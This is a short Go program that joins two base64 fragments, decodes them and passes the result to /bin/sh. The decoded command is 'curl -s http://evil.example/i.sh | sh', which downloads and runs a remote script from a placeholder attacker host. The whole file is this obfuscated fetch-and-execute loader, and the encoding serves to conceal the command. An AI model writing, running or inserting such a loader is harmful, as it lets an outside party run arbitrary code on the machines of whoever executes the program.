package main

import (
	"encoding/base64"
	"os/exec"
)

var parts = []string{"Y3VybCAtcyBodHRwOi8v", "ZXZpbC5leGFtcGxlL2kuc2ggfCBzaA=="}

func main() {
	raw, err := base64.StdEncoding.DecodeString(parts[0] + parts[1])
	if err != nil {
		panic(err)
	}
	exec.Command("/bin/sh", "-c", string(raw)).Run()
}
